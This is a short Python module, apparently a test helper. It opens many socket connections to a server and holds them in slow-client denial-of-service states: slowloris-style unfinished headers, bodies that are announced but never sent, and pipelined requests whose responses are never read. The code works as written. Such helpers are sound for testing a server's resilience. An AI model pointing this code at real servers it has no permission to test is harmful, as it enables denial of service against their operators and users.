"""Clients that mean to hold a server up: connections that never end what they began."""

from __future__ import annotations

import socket
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager

Begin = Callable[[socket.socket, str], None]


def half_a_head(connection: socket.socket, path: str) -> None:
    """Headers without an end, as slowloris sends them."""
    connection.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nX-Slow: ".encode())


def half_a_body(connection: socket.socket, path: str) -> None:
    """A body that was announced and does not come."""
    connection.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 60000\r\n\r\n{{".encode())


def never_reads(connection: socket.socket, path: str) -> None:
    """One picture after the other asked for, and not one of them read."""
    connection.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * 20)


@contextmanager
def slow_clients(address: tuple[str, int], counts: dict[Begin, int], path: str) -> Iterator[list[socket.socket]]:
    """So many connections of each kind, held until the block ends. path: of a picture."""
    with ExitStack() as stack:
        held = []
        for begin, count in counts.items():
            for _ in range(count):
                connection = stack.enter_context(socket.socket())
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # before it is connected
                connection.settimeout(60)
                connection.connect(address)
                begin(connection, path)
                held.append(connection)
        yield held
